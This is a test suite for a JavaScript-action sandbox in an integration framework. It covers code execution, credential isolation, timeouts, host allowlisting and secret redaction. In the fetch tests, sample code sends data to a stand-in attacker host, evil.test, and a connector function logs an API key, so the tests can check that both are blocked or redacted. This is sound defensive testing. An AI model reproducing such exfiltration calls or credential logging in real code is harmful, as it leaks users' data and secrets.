import { describe, expect, it } from 'vitest';
import { MembraneError } from '../../../src/core/error.js';
import type { RunEvent } from '../../../src/core/event.js';
import type { Answer, Received } from '../../support/server.js';
import { connector, failure, world } from './world.js';

const action = (code: string, more = ''): string =>
  `type: run-javascript\nconfig:\n  code: |\n${code.replace(/^/gm, '    ')}\n${more}`;

const json =
  (of: (request: Received) => unknown, status = 200): Answer =>
  (response, request) => {
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(of(request)));
  };

/** The error itself, where its class and its key count. */
const thrown = (work: Promise<unknown>): Promise<MembraneError> =>
  work.then(
    () => Promise.reject(new Error('it did not fail')),
    (error: MembraneError) => error,
  );

/** A connector whose client is made by code. */
const inCode = connector
  .replace(/ {2}makeApiClient:[^]*? {2}test:/, '  test:')
  .replace('name: CRM', "name: CRM\nallowedHosts: ['*.files.test']");
const makeClient = `export default ({ credentials, connectionParameters }) => {
  console.log('key is', credentials.apiKey);
  return { baseUri: connectionParameters.baseUri, headers: { authorization: credentials.apiKey } };
};
`;

async function crm(files: Record<string, string>, routes: Parameters<typeof world>[1] = {}) {
  const made = await world(
    { 'connectors/crm/spec.yaml': inCode, 'connectors/crm/auth/make-api-client.ts': makeClient, ...files },
    routes,
  );
  await made.connect();
  return made;
}

describe('run-javascript', () => {
  it('runs code with the input, or with what is made of it', async () => {
    const { membrane } = await world({
      'actions/double.yaml': action(
        'export default ({ input, tenant }) => ({ is: input.n * 2, tenant: tenant.key });',
      ),
      'actions/mapped.yaml': action(
        'export default ({ input }) => input;',
        '  input:\n    twice: [{$var: input.n}, {$var: input.n}]\n',
      ),
    });
    expect((await membrane.actions.run('double', { input: { n: 2 } })).output).toEqual({
      is: 4,
      tenant: 'local',
    });
    expect((await membrane.actions.run('mapped', { input: { n: 2 } })).output).toEqual({ twice: [2, 2] });
  });

  it('reaches the external app with the credentials of the connection, and never sees them', async () => {
    const { membrane, server } = await crm(
      {
        'actions/me.yaml': action(
          'export default async (given) => ({ ...(await given.apiClient.get("/me", { q: 1 })), credentials: typeof given.credentials });',
        ),
      },
      { '/me': json(({ headers }) => ({ as: headers['authorization'] })) },
    );
    expect((await membrane.actions.run('me', { connection: 'crm' })).output).toEqual({
      as: 'secret-key',
      credentials: 'undefined',
    });
    expect(server.requests.map(({ path }) => path)).toEqual(['/me?q=1']);
  });

  it('points into the YAML, and keeps what the console was given', async () => {
    const events: RunEvent[] = [];
    const files = {
      'actions/bad.yaml': action(
        'export default async ({ input }) => {\n\n  console.warn("about to", input);\n  input.missing.field;\n};',
      ),
    };
    const { open } = await world(files);
    const membrane = await open({ emit: (event) => events.push(event) });
    const error = await thrown(membrane.actions.run('bad', { input: { a: 1 } }));
    expect([error.code, error.class, error.message, error.data?.['stack']]).toEqual([
      'javascript/error',
      'custom_code',
      'the code threw "TypeError: cannot read property \'field\' of undefined"',
      ['default (4:16)'],
    ]);
    expect([error.span?.line, error.span?.column]).toEqual([7, 20]);
    expect(events.filter(({ type }) => type === 'log')).toEqual([
      { type: 'log', level: 'warn', text: 'about to {"a":1}' },
    ]);
    const [entry] = await membrane.logs.list({ type: 'action-run' });
    expect(entry?.data['console']).toEqual([{ level: 'warn', text: 'about to {"a":1}' }]);
  });

  it('stops an endless loop, and goes on with the next run', async () => {
    const { membrane } = await world({
      'membrane.yaml': 'limits:\n  javascriptSeconds: 0.05\n',
      'actions/loop.yaml': action('export default () => { for (;;) {} };'),
      'actions/one.yaml': action('export default () => 1;'),
    });
    const error = await thrown(membrane.actions.run('loop'));
    expect([error.code, error.message]).toEqual([
      'javascript/timeout',
      'the code computed for more than 0.05 s',
    ]);
    expect((await membrane.actions.run('one')).output).toBe(1);
  });

  it('fails with the error of the API, unless it catches it', async () => {
    const { membrane } = await crm(
      {
        'actions/through.yaml': action('export default ({ apiClient }) => apiClient.get("/gone");'),
        'actions/caught.yaml': action(
          'export default ({ apiClient }) => apiClient.get("/gone").catch(({ key, status }) => ({ key, status }));',
        ),
      },
      { '/gone': json(() => ({}), 404) },
    );
    const error = await thrown(membrane.actions.run('through', { connection: 'crm' }));
    expect([error.code, error.class, error.key]).toEqual(['http/status', 'bad_request', 'not_found']);
    expect((await membrane.actions.run('caught', { connection: 'crm' })).output).toEqual({
      key: 'not_found',
      status: 404,
    });
  });
});

describe('fetch', () => {
  const fetching = (url: string): string =>
    action(`export default async ({ input }) => (await fetch(${url})).json();`);

  it('reaches the host of the connector, and no other, also by a redirect', async () => {
    const { membrane, server } = await crm(
      {
        'actions/own.yaml': fetching('input.url + "/open"'),
        'actions/moved.yaml': fetching('input.url + "/moved"'),
        'actions/other.yaml': fetching('"https://evil.test/?" + input.url'),
      },
      {
        '/open': json(({ headers }) => ({ auth: headers['authorization'] ?? null })),
        '/moved': (response) => void response.writeHead(302, { location: 'https://evil.test/' }).end(),
      },
    );
    const run = (key: string) => membrane.actions.run(key, { connection: 'crm', input: { url: server.url } });
    expect((await run('own')).output).toEqual({ auth: null });
    const host = new URL(server.url).host;
    for (const key of ['moved', 'other']) {
      const error = await thrown(run(key));
      expect([error.code, error.class, error.message, error.hint]).toEqual([
        'javascript/host',
        'custom_code',
        'the code may not reach "evil.test"',
        `it may reach ${host}, *.files.test; others are named in "allowedHosts" of the connector`,
      ]);
    }
  });

  it('reaches nothing without a connection', async () => {
    const { membrane } = await world({ 'actions/any.yaml': fetching('"https://evil.test/"') });
    const error = await thrown(membrane.actions.run('any'));
    expect([error.code, error.hint]).toEqual([
      'javascript/host',
      'it may reach none; others are named in "allowedHosts" of the connector',
    ]);
  });
});

describe('functions of a connector', () => {
  it('log without secrets, and throw without secrets', async () => {
    const events: RunEvent[] = [];
    const { open } = await crm(
      { 'actions/me.yaml': action('export default ({ apiClient }) => apiClient.get("/me");') },
      { '/me': json(() => ({})) },
    );
    const membrane = await open({ emit: (event) => events.push(event) });
    await membrane.actions.run('me', { connection: 'crm' });
    expect(events.filter(({ type }) => type === 'log')).toEqual([
      { type: 'log', level: 'log', text: 'key is [redacted]' },
    ]);
    const [entry] = await membrane.logs.list({ type: 'action-run' });
    expect(entry?.data['console']).toEqual([{ level: 'log', text: 'key is [redacted]' }]);
  });

  it('point into their file', async () => {
    const throwing =
      'type Given = { credentials: { apiKey: string } };\nexport default ({ credentials }: Given) => {\n  throw new Error(`no ${credentials.apiKey}`);\n};\n';
    const { membrane, root } = await crm({
      'connectors/crm/auth/make-api-client.ts': throwing,
      'actions/me.yaml': action('export default ({ apiClient }) => apiClient.get("/me");'),
    });
    expect(await failure(membrane.actions.run('me', { connection: 'crm' }), root)).toEqual({
      code: 'javascript/error',
      message: 'the code threw "no [redacted]"',
      at: 'connectors/crm/auth/make-api-client.ts:3:18',
    });
  });
});
